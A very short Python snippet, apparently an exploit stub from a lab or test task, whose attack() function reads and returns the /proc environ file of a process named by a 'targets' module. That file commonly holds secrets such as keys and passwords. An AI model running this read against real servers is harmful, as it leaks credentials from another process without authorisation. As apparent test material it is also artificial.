import targets


def attack():
    return open(f"/proc/{targets.SERVER}/environ").read()
